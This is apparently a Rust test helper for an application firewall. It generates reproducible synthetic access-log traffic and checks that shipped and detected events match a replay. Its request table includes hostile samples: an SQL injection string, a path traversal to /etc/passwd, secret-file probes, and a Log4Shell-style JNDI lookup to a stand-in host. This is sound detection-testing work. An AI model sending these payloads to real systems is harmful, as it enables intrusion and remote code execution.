//! Traffic that can be made again from its seed, and the accounts of it: what was written, what the store has
//! counted, what receivers got.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;
use std::process::Command;

use afw::store::{FORGOTTEN_LINES, Store};

use super::afw;
use super::ingest::Ingest;

/// How many clients there are.
pub const CLIENTS: u64 = 12;

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0";

/// What clients ask for: ordinary and hostile, so that signatures, windows and indicators all have work.
const REQUESTS: [(&str, u16, &str); 10] = [
    ("/", 200, FIREFOX),
    ("/shop/item?id=7", 200, FIREFOX),
    ("/favicon.ico", 404, FIREFOX),
    ("/.env", 404, "curl/8.11.0"),
    ("/wp-login.php", 200, "python-requests/2.32"),
    ("/a?q=1%27%20OR%201=1--", 200, "sqlmap/1.8"),
    ("/%2e%2e/%2e%2e/etc/passwd", 400, "Mozilla/5.0 zgrab/0.x"),
    ("/missing/one", 404, "Mozilla/5.0 (compatible; Nikto/2.5)"),
    ("/?x=${jndi:ldap://192.0.2.1/a}", 200, "Go-http-client/1.1"),
    ("/phpmyadmin/", 404, "Wget/1.21"),
];

/// SplitMix64: seeded, and the same everywhere.
#[derive(Clone)]
pub struct Random(pub u64);

impl Random {
    /// The next number.
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        mixed ^ (mixed >> 31)
    }

    /// A number below `end`.
    pub fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    /// The line with this number, unlike every other: four a second.
    pub fn line(&mut self, number: u64) -> String {
        let (target, status, agent) = REQUESTS[self.below(10) as usize];
        let (client, at) = (self.below(CLIENTS), number / 4);
        let (minute, second) = (at / 60 % 60, at % 60);
        format!(
            "45.83.7.{client} - - [10/Oct/2026:{:02}:{minute:02}:{second:02} +0000] \"GET {target} HTTP/1.1\" {status} {number} \"-\" \"{agent}\"\n",
            at / 3600
        )
    }
}

/// A number from the environment.
pub fn number(variable: &str, usual: u64) -> u64 {
    std::env::var(variable).map_or(usual, |text| text.parse().unwrap())
}

/// The seed of a run: `AFW_SEED`, else 1, so that a run that passed once passes again.
pub fn seed() -> u64 {
    number("AFW_SEED", 1)
}

/// afw with its state in `place/state`, which can ship to `receiver` and, every line it reads, to a file: to be
/// told with [`sinks`].
pub fn shipping(place: &Path, receiver: &Ingest) -> Command {
    let config = place.join("afw.toml");
    if !config.exists() {
        fs::write(&config, "[ecs]\nbody = \"raw\"\nsend = \"all\"\n").unwrap();
    }
    let mut command = afw(&place.join("state"));
    command
        .env("AFW_CONFIG", config)
        .env("APPFIREWALL_API_KEY", "afw_test_key")
        .env("APPFIREWALL_ENDPOINT", receiver.endpoint());
    command
}

/// Options for what is sighted to go to the receiver and every line to `place/shipped`.
pub fn sinks(place: &Path) -> [String; 2] {
    let file = place.join("shipped");
    [
        "--sink=appfirewall".to_owned(),
        format!("--sink=ecs:{}", file.display()),
    ]
}

/// Lines that the store in `place/state` has counted, those of files that are gone included.
pub fn counted(place: &Path) -> u64 {
    let Some(store) = Store::open_existing(&place.join("state")).unwrap() else {
        return 0;
    };
    let lines: u64 = store.files().unwrap().iter().map(|file| file.lines).sum();
    let counters = store.counters().unwrap();
    let forgotten = counters.iter().find(|(name, _)| name == FORGOTTEN_LINES);
    lines + forgotten.map_or(0, |(_, lines)| *lines)
}

/// How often each line stands in a text.
pub fn lines(text: &str) -> BTreeMap<String, u64> {
    tally(text.lines().map(str::to_owned))
}

/// How often each event was sent.
pub fn events(receiver: &Ingest) -> BTreeMap<String, u64> {
    tally(receiver.events().iter().map(ToString::to_string))
}

fn tally(items: impl Iterator<Item = String>) -> BTreeMap<String, u64> {
    let mut counts = BTreeMap::new();
    for item in items {
        *counts.entry(item).or_default() += 1;
    }
    counts
}

/// What differs between what was found and what was expected, or nothing.
pub fn difference<T: std::fmt::Debug + PartialEq>(
    what: &str,
    found: &BTreeMap<String, T>,
    expected: &BTreeMap<String, T>,
) -> Option<String> {
    let keys = found.keys().chain(expected.keys());
    let differing: Vec<_> = keys
        .filter(|key| found.get(*key) != expected.get(*key))
        .map(|key| (key, found.get(key), expected.get(key)))
        .take(5)
        .collect();
    (!differing.is_empty()).then(|| {
        let (found, expected) = (found.len(), expected.len());
        format!("{what}: {found} found, {expected} expected; differing: {differing:#?}")
    })
}

/// Fails when every line was not shipped once, or what was sighted is not what one replay sights.
pub fn assert_same_as_one_replay(place: &Path, receiver: &Ingest, what: &str) {
    let whole = place.join("whole");
    let written = lines(&fs::read_to_string(&whole).unwrap());
    let shipped = lines(&fs::read_to_string(place.join("shipped")).unwrap_or_default());
    let oracle = Ingest::start();
    let fresh = place.join("fresh");
    fs::create_dir_all(&fresh).unwrap();
    let mut replay = shipping(&fresh, &oracle);
    replay
        .args(["replay", "--print", "none", "--sink=appfirewall"])
        .arg(&whole);
    let output = super::run(&mut replay);
    assert_eq!(output.status.code(), Some(0), "{}", super::text(&output.stderr));
    let faults: Vec<String> = [
        difference("lines", &shipped, &written),
        difference("sighted events", &events(receiver), &events(&oracle)),
    ]
    .into_iter()
    .flatten()
    .chain(receiver.look(|seen| seen.faults.clone()))
    .chain(oracle.look(|seen| seen.faults.clone()))
    .collect();
    assert!(faults.is_empty(), "{what}: {}", faults.join("\n"));
}
